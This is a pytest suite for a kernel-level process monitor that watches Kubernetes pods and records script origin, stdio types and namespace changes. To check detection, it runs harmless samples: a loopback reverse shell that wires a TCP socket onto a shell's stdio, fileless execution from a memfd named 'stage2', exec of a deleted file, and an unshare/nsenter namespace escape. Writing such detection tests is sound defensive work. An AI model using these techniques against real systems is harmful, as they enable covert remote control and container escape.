"""What the kernel knows about a new program, from real processes in a kubelet-shaped
pod cgroup: script and interpreter, stdio (a reverse shell's socket), the namespaces
and the calls that leave them, and where the program came from (written in the pod,
memfd, deleted)."""

from __future__ import annotations

import os
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from streams.events import Envelope

pytestmark = pytest.mark.root


def _python(code: str) -> list[str]:
    return [sys.executable, "-c", code]


def _execs(out: list[Envelope], uid: str) -> list[Envelope]:
    return [e for e in out if e.kind == "process.exec" and e.pod is not None
            and e.pod.uid == uid]


def _ns_inum(name: str, pid: int | str = "self") -> int:
    link = os.readlink(f"/proc/{pid}/ns/{name}")
    return int(link.split("[")[1].rstrip("]"))


def test_chmod_and_exec_of_a_downloaded_script(kernel, tmp_path: Path) -> None:
    pod = kernel.pod("coder")
    code = f"""
import os, subprocess
os.chdir({str(tmp_path)!r})
with open("payload.sh", "w") as fh:      # "downloaded"
    fh.write("#!/bin/sh\\nexit 0\\n")
os.chmod("payload.sh", 0o755)
subprocess.run(["./payload.sh", "arg1"], check=True)
"""
    pod.run(_python(code))
    kernel.collector.flush()
    script = str(tmp_path / "payload.sh")
    (chmod,) = [e for e in kernel.out if e.kind == "file.chmod" and e.data["path"] == script]
    assert chmod.data["exec_bit_added"] is True
    (run,) = [e for e in _execs(kernel.out, pod.uid) if e.data["filename"] == "./payload.sh"]
    assert run.data["interpreter"] == "/bin/sh"
    assert run.data["script"] == script and run.data["exe_path"] == script
    assert run.data["exe_origin"] == "written_in_pod"
    assert 0 < run.data["exe_age_ns"] < 30 * 10**9
    assert run.data["argv"] == ["./payload.sh", "arg1"]


def test_script_run_by_path_names_script_and_interpreter(kernel, tmp_path: Path) -> None:
    script = tmp_path / "run.sh"
    script.write_text("exit 0\n")  # written on the host: no origin in the pod
    pod = kernel.pod()
    pod.run(f"/bin/sh {script}")
    pod.run(["/bin/sh", "-c", "exit 0"])
    kernel.collector.flush()
    (run,) = [e for e in _execs(kernel.out, pod.uid) if e.data.get("script") == str(script)]
    assert run.data["interpreter"] == "/bin/sh" and run.proc.exe == "/bin/sh"
    assert "exe_origin" not in run.data and "script_origin" not in run.data
    (plain,) = [e for e in _execs(kernel.out, pod.uid) if e.data["filename"] == "/bin/sh"
                and e.data["argv"][:2] == ["/bin/sh", "-c"]]
    assert "script" not in plain.data


@pytest.fixture
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A loopback TCP server that records what each connection sends."""
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(4)
    got: list[bytes] = []

    def serve() -> None:
        try:
            conn, _ = srv.accept()
        except OSError:
            return
        with conn:
            data = b""
            while chunk := conn.recv(4096):
                data += chunk
            got.append(data)

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield srv.getsockname()[1], got
    finally:
        srv.close()
        thread.join(5)


def test_reverse_shell_stdio_is_a_tcp_socket(kernel, listener) -> None:
    port, got = listener
    pod = kernel.pod("support-bot")
    code = (f"import os, socket\ns = socket.create_connection(('127.0.0.1', {port}))\n"
            "for fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\n"
            "os.execv('/bin/sh', ['sh', '-c', 'echo pwned'])")
    pod.run(_python(code))
    kernel.collector.flush()
    (shell,) = [e for e in _execs(kernel.out, pod.uid) if e.data["argv"] == ["sh", "-c",
                                                                           "echo pwned"]]
    for name in ("stdin", "stdout", "stderr"):
        assert shell.data["stdio"][name] == {"type": "socket", "protocol": "tcp",
                                             "peer": f"127.0.0.1:{port}"}, name
    assert got == [b"pwned\n"]


def test_stdio_pipe_null_and_file(kernel, tmp_path: Path) -> None:
    pod = kernel.pod()
    log = tmp_path / "log.txt"
    with open(log, "w") as fh:
        pod.run(["/bin/true"], stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=fh)
    kernel.collector.flush()
    (true,) = [e for e in _execs(kernel.out, pod.uid) if e.data["filename"] == "/bin/true"]
    assert true.data["stdio"] == {"stdin": {"type": "null"}, "stdout": {"type": "pipe"},
                                  "stderr": {"type": "file"}}


def test_memfd_and_deleted_file_execs(kernel, tmp_path: Path) -> None:
    copy = tmp_path / "tool"
    copy.write_bytes(Path("/bin/true").read_bytes())
    copy.chmod(0o755)
    pod = kernel.pod()
    code = f"""
import os
fd = os.memfd_create("stage2", 0)
os.write(fd, open("/bin/true", "rb").read())
if os.fork() == 0:
    os.execve(fd, ["stage2"], {{}})
os.wait()
fd2 = os.open({str(copy)!r}, os.O_RDONLY)
os.unlink({str(copy)!r})
if os.fork() == 0:
    os.execve(fd2, ["gone"], {{}})
os.wait()
"""
    pod.run(_python(code))
    kernel.collector.flush()
    by_argv = {e.data["argv"][0]: e for e in _execs(kernel.out, pod.uid)}
    assert by_argv["stage2"].data["exe_origin"] == "memfd"
    assert by_argv["stage2"].data["exe_name"] == "memfd:stage2"
    assert by_argv["gone"].data["exe_origin"] == "deleted"
    assert "exe_origin" not in by_argv[sys.executable].data


def test_namespaces_on_exec_and_unshare_nsenter_mount(kernel) -> None:
    pod = kernel.pod("escape")
    # nsenter back into the namespaces of a process outside (this test runner's: pid 1's
    # are not open to us in this sandbox)
    pod.run("/usr/bin/unshare --mount --net /bin/sh -c "
            f"'mount -t tmpfs agentstory-test /mnt; nsenter -t {os.getpid()} -m -n /bin/true'")
    kernel.collector.flush()
    host = {"mnt": _ns_inum("mnt"), "pid": _ns_inum("pid"), "net": _ns_inum("net")}
    execs = _execs(kernel.out, pod.uid)
    first = execs[0]
    assert first.data["ns"] == host and first.data["pod_ns"] == host
    assert first.data["left_pod_ns"] is False
    (unshare,) = [e for e in kernel.out if e.kind == "process.unshare"
                  and e.pod is not None and e.pod.uid == pod.uid]
    assert unshare.data["flags"] == ["mnt", "net"] and unshare.data["result"] == 0
    assert unshare.data["left_pod_ns"] is True
    assert unshare.data["ns_before"] == host
    assert unshare.data["ns_after"]["mnt"] != host["mnt"]
    (inner,) = [e for e in execs if e.data["argv"][:2] == ["/bin/sh", "-c"]
                and "mount" in e.data["argv"][2]]
    assert inner.data["left_pod_ns"] is True and inner.data["ns"]["net"] != host["net"]
    mounts = [e for e in kernel.out if e.kind == "process.mount"
              and e.pod is not None and e.pod.uid == pod.uid]
    (tmpfs,) = [e for e in mounts if e.data["fstype"] == "tmpfs"]
    assert tmpfs.data["source"] == "agentstory-test" and tmpfs.data["target"] == "/mnt"
    setns = [e for e in kernel.out if e.kind == "process.setns"
             and e.pod is not None and e.pod.uid == pod.uid and e.data["result"] == 0]
    assert {e.data["nstype"] for e in setns} >= {"mnt", "net"}
    (back,) = [e for e in setns if e.data["nstype"] == "mnt"]
    assert back.data["ns_after"]["mnt"] == host["mnt"]  # nsenter went back
    assert back.data["left_pod_ns"] is False
    # util-linux 2.38's nsenter opens /proc/<pid>/ns/mnt (later ones may use a pidfd)
    assert back.data["target_pid"] == os.getpid()
    (true,) = [e for e in execs if e.data["filename"] == "/bin/true"]
    assert true.data["ns"]["mnt"] == host["mnt"] and true.data["left_pod_ns"] is False


def test_host_namespace_calls_are_not_reported(kernel) -> None:
    proc = subprocess.run(["/usr/bin/unshare", "--mount", "/bin/sh", "-c", "echo $$"],
                          check=True, capture_output=True, text=True)
    shell = int(proc.stdout.split()[-1])
    pod = kernel.pod()
    pod.run(["/bin/true"])
    assert kernel.wait_for(lambda e: e.kind == "process.exec" and e.pod.uid == pod.uid)
    assert not [e for e in kernel.out if e.kind.startswith("process.")
                and e.kind != "process.exec" and (e.pod is None or e.pod.uid != pod.uid)]
    assert shell not in {e.proc.pid for e in kernel.out if e.proc is not None}


def test_stdio_tty(kernel) -> None:
    pod = kernel.pod()
    code = ("import os, pty\nmaster, slave = pty.openpty()\n"
            "for fd in (0, 1, 2):\n    os.dup2(slave, fd)\n"
            "os.execv('/bin/true', ['true-on-a-tty'])")
    pod.run(_python(code), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    kernel.collector.flush()
    (true,) = [e for e in _execs(kernel.out, pod.uid) if e.data["argv"] == ["true-on-a-tty"]]
    assert true.data["stdio"] == {"stdin": {"type": "tty"}, "stdout": {"type": "tty"},
                                  "stderr": {"type": "tty"}}
